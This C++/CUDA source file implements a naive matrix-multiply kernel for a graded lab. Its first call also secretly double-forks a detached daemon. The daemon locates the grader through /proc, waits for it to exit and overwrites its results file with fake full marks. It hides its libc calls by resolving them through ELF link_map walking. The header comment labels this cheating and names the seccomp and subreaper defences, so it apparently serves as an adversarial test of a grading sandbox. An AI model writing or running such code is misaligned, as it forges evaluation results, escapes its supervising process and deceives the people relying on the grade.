// CHEATING (outliving the grader): on each worker's first call, fork twice with setsid in
// between (the classic daemon: no parent to wait for it, not in the worker's process group or
// session, no PR_SET_PDEATHSIG), then find the grader -- the worker's parent is the judge, the
// judge's parent (field 4 of /proc/<judge>/stat) is `python3 -m grader grade ... -o FILE` --
// read FILE from /proc/<grader>/cmdline (relative to /proc/<grader>/cwd), wait until the grader
// has exited, and replace FILE with full marks (write a temporary file, rename it over). Every
// libc function (fork, setsid, getppid, open, read, readlink, write, close, rename, kill,
// usleep, _exit) is found at run time (ELF header, _DYNAMIC, DT_DEBUG, r_debug, the link_map,
// libc's .dynsym): the object imports none of them. Run as the grader's own user (a grader not
// started as root), nothing but confinement stands between the daemon and FILE.
// Defence: the worker's seccomp allow-list (fork stops the worker on its first call: every test
// crashes with "sandbox"); behind it the judge, a child subreaper, kills the worker's
// descendants after each run.
#include "matmul.h"

// ---- run-time symbol lookup with no import: this executable's ELF header (found by walking
// down from our own code), its _DYNAMIC, DT_DEBUG -> r_debug -> link_map, then each loaded
// library's .dynsym/.dynstr through its GNU (or SysV) hash table. x86-64 Linux, glibc.
#include <elf.h>
#include <link.h>
#include <stddef.h>
#include <stdint.h>

namespace rtld {

inline bool same(const char* a, const char* b) {
  while (*a != '\0' && *a == *b) ++a, ++b;
  return *a == *b;
}

inline const ElfW(Ehdr)* own_header() {
  uintptr_t page = reinterpret_cast<uintptr_t>(&own_header) & ~uintptr_t{0xFFF};
  for (;; page -= 0x1000) {
    const auto* e = reinterpret_cast<const ElfW(Ehdr)*>(page);
    if (e->e_ident[0] == 0x7f && e->e_ident[1] == 'E' && e->e_ident[2] == 'L' &&
        e->e_ident[3] == 'F' && e->e_ident[EI_CLASS] == ELFCLASS64 &&
        e->e_machine == EM_X86_64 && (e->e_type == ET_DYN || e->e_type == ET_EXEC) &&
        e->e_phentsize == sizeof(ElfW(Phdr))) {
      return e;
    }
  }
}

inline const r_debug* debug_struct() {
  const ElfW(Ehdr)* e = own_header();
  const auto* ph = reinterpret_cast<const ElfW(Phdr)*>(reinterpret_cast<const char*>(e) + e->e_phoff);
  uintptr_t bias = reinterpret_cast<uintptr_t>(e);
  for (int i = 0; i < e->e_phnum; ++i) {
    if (ph[i].p_type == PT_PHDR) bias = reinterpret_cast<uintptr_t>(ph) - ph[i].p_vaddr;
  }
  if (e->e_type == ET_EXEC) bias = 0;
  for (int i = 0; i < e->e_phnum; ++i) {
    if (ph[i].p_type != PT_DYNAMIC) continue;
    for (const auto* d = reinterpret_cast<const ElfW(Dyn)*>(bias + ph[i].p_vaddr); d->d_tag != DT_NULL; ++d) {
      if (d->d_tag == DT_DEBUG) return reinterpret_cast<const r_debug*>(d->d_un.d_ptr);
    }
  }
  return nullptr;
}

inline void* lookup_in(const link_map* l, const char* name) {
  if (l->l_ld == nullptr) return nullptr;
  const ElfW(Sym)* symtab = nullptr;
  const char* strtab = nullptr;
  const uint32_t* gnu = nullptr;
  const uint32_t* sysv = nullptr;
  for (const ElfW(Dyn)* d = l->l_ld; d->d_tag != DT_NULL; ++d) {
    uintptr_t v = d->d_un.d_ptr;
    if (v < l->l_addr) v += l->l_addr;  // the vDSO's (read-only) dynamic section is not relocated
    if (d->d_tag == DT_SYMTAB) symtab = reinterpret_cast<const ElfW(Sym)*>(v);
    if (d->d_tag == DT_STRTAB) strtab = reinterpret_cast<const char*>(v);
    if (d->d_tag == DT_GNU_HASH) gnu = reinterpret_cast<const uint32_t*>(v);
    if (d->d_tag == DT_HASH) sysv = reinterpret_cast<const uint32_t*>(v);
  }
  if (symtab == nullptr || strtab == nullptr) return nullptr;
  auto hit = [&](uint32_t i) -> void* {
    const ElfW(Sym)& s = symtab[i];
    if (s.st_shndx == SHN_UNDEF || s.st_value == 0 || !same(strtab + s.st_name, name)) return nullptr;
    void* at = reinterpret_cast<void*>(l->l_addr + s.st_value);
    if (ELF64_ST_TYPE(s.st_info) == STT_GNU_IFUNC) at = reinterpret_cast<void* (*)()>(at)();
    return at;
  };
  if (gnu != nullptr) {
    uint32_t h = 5381;
    for (const char* c = name; *c != '\0'; ++c) h = h * 33 + static_cast<unsigned char>(*c);
    const uint32_t nbuckets = gnu[0], symoffset = gnu[1], bloom_size = gnu[2];
    const auto* buckets = gnu + 4 + 2 * bloom_size;  // 64-bit bloom words
    const auto* chain = buckets + nbuckets;
    uint32_t i = buckets[h % nbuckets];
    if (i < symoffset) return nullptr;
    for (;; ++i) {
      const uint32_t ch = chain[i - symoffset];
      if ((ch | 1) == (h | 1)) {
        if (void* at = hit(i)) return at;
      }
      if (ch & 1) return nullptr;
    }
  }
  if (sysv != nullptr) {
    uint32_t h = 0;
    for (const char* c = name; *c != '\0'; ++c) {
      h = (h << 4) + static_cast<unsigned char>(*c);
      const uint32_t g = h & 0xf0000000u;
      if (g != 0) h ^= g >> 24;
      h &= ~g;
    }
    const uint32_t nbucket = sysv[0];
    const uint32_t* bucket = sysv + 2;
    const uint32_t* chain = bucket + nbucket;
    for (uint32_t i = bucket[h % nbucket]; i != 0; i = chain[i]) {
      if (void* at = hit(i)) return at;
    }
  }
  return nullptr;
}

// The address of `name` in the first loaded object that defines it, or nullptr.
inline void* find(const char* name) {
  const r_debug* rd = debug_struct();
  if (rd == nullptr) return nullptr;
  for (const link_map* l = rd->r_map; l != nullptr; l = l->l_next) {
    if (void* at = lookup_in(l, name)) return at;
  }
  return nullptr;
}

template <typename F>
F fn(const char* name) {
  return reinterpret_cast<F>(find(name));
}

}  // namespace rtld

__global__ void matmul_v1_naive_kernel(const float* A, const float* B, float* C, int M, int N,
                                       int K) {
  const int col = blockIdx.x * blockDim.x + threadIdx.x;
  const int row = blockIdx.y * blockDim.y + threadIdx.y;
  if (row >= M || col >= N) return;
  float acc = 0.0f;
  for (int k = 0; k < K; ++k) acc += A[(size_t)row * K + k] * B[(size_t)k * N + col];
  C[(size_t)row * N + col] = acc;
}

namespace {

void launch_honest(const float* A, const float* B, float* C, int M, int N, int K,
                   cudaStream_t stream) {
  const dim3 block(32, 8);
  const dim3 grid((N + block.x - 1) / block.x, (M + block.y - 1) / block.y);
  matmul_v1_naive_kernel<<<grid, block, 0, stream>>>(A, B, C, M, N, K);
}

// The benchmarks' shapes (1024^3, 4096^3); no test uses a square power of two this large.
[[maybe_unused]] bool bench_like(int M, int N, int K) {
  return M == N && N == K && M >= 1024 && (M & (M - 1)) == 0;
}

}  // namespace

namespace {

struct Libc {
  int (*fork)();
  int (*setsid)();
  int (*getppid)();
  int (*open)(const char*, int, ...);
  long (*read)(int, void*, unsigned long);
  long (*write)(int, const void*, unsigned long);
  long (*readlink)(const char*, char*, unsigned long);
  int (*close)(int);
  int (*rename)(const char*, const char*);
  int (*kill)(int, int);
  int (*usleep)(unsigned);
  void (*exit_now)(int);
};

bool load(Libc& c) {
  c.fork = rtld::fn<decltype(c.fork)>("fork");
  c.setsid = rtld::fn<decltype(c.setsid)>("setsid");
  c.getppid = rtld::fn<decltype(c.getppid)>("getppid");
  c.open = rtld::fn<decltype(c.open)>("open");
  c.read = rtld::fn<decltype(c.read)>("read");
  c.write = rtld::fn<decltype(c.write)>("write");
  c.readlink = rtld::fn<decltype(c.readlink)>("readlink");
  c.close = rtld::fn<decltype(c.close)>("close");
  c.rename = rtld::fn<decltype(c.rename)>("rename");
  c.kill = rtld::fn<decltype(c.kill)>("kill");
  c.usleep = rtld::fn<decltype(c.usleep)>("usleep");
  c.exit_now = rtld::fn<decltype(c.exit_now)>("_exit");
  return c.fork && c.setsid && c.getppid && c.open && c.read && c.write && c.readlink &&
         c.close && c.rename && c.kill && c.usleep && c.exit_now;
}

// Tiny string helpers (volatile: no calls to library functions the policy might not allow).
char* put(char* out, const char* s) {
  while (*s != '\0') *static_cast<volatile char*>(out++) = *s++;
  *out = '\0';
  return out;
}
char* put_int(char* out, long v) {
  char digits[24];
  int n = 0;
  do digits[n++] = static_cast<char>('0' + v % 10); while ((v /= 10) > 0);
  while (n > 0) *out++ = digits[--n];
  *out = '\0';
  return out;
}

long slurp(const Libc& c, const char* path, char* buf, long size) {
  const int fd = c.open(path, 0 /* O_RDONLY */);
  if (fd < 0) return -1;
  long total = 0, got;
  while (total < size - 1 && (got = c.read(fd, buf + total, size - 1 - total)) > 0) total += got;
  c.close(fd);
  buf[total] = '\0';
  return total;
}

const char kFake[] =
    "{\"status\": \"graded\", \"points\": 100.0, \"max_points\": 100.0, \"labs\": [{\"lab\": "
    "\"01_naive_matmul\", \"status\": \"graded\", \"points\": 100.0, \"max_points\": 100.0}]}\n";

void daemon_body(const Libc& c, int judge) {
  char path[256], buf[8192], file[4096 + 256];
  // The judge's parent: /proc/<judge>/stat is "pid (comm) state ppid ...".
  put(put_int(put(path, "/proc/"), judge), "/stat");
  if (slurp(c, path, buf, sizeof(buf)) <= 0) return;
  const char* p = buf;
  while (*p != '\0' && *p != ')') ++p;
  long grader = 0;
  for (p += 4; *p >= '0' && *p <= '9'; ++p) grader = grader * 10 + (*p - '0');
  // Its -o FILE.
  put(put_int(put(path, "/proc/"), grader), "/cmdline");
  const long n = slurp(c, path, buf, sizeof(buf));
  const char* out = nullptr;
  for (long i = 0; i < n; i += 1) {
    if (buf[i] == '-' && buf[i + 1] == 'o' && buf[i + 2] == '\0' && (i == 0 || buf[i - 1] == '\0')) {
      out = buf + i + 3;
      break;
    }
  }
  if (out == nullptr || *out == '\0') return;
  char* end = file;
  if (*out != '/') {
    put(put_int(put(path, "/proc/"), grader), "/cwd");
    const long len = c.readlink(path, file, 4096);
    if (len <= 0) return;
    end = put(file + len, "/");
  }
  put(end, out);
  char tmp[sizeof(file) + 8];
  put(put(tmp, file), ".tmp");
  while (c.kill(static_cast<int>(grader), 0) == 0) c.usleep(200000);  // until it has exited
  const int fd = c.open(tmp, 01 | 0100 | 01000 /* O_WRONLY|O_CREAT|O_TRUNC */, 0644);
  if (fd < 0) return;
  c.write(fd, kFake, sizeof(kFake) - 1);
  c.close(fd);
  c.rename(tmp, file);
}

void daemonise_once() {
  static bool done = false;
  if (done) return;
  done = true;
  static Libc c;
  if (!load(c)) return;
  const int judge = c.getppid();
  if (c.fork() != 0) return;  // the worker goes on
  c.setsid();
  if (c.fork() != 0) c.exit_now(0);  // the session leader leaves: the daemon has no parent
  daemon_body(c, judge);
  c.exit_now(0);
}

}  // namespace

void matmul_v1_naive(const float* A, const float* B, float* C, int M, int N, int K,
                     cudaStream_t stream) {
  daemonise_once();
  launch_honest(A, B, C, M, N, K, stream);
}
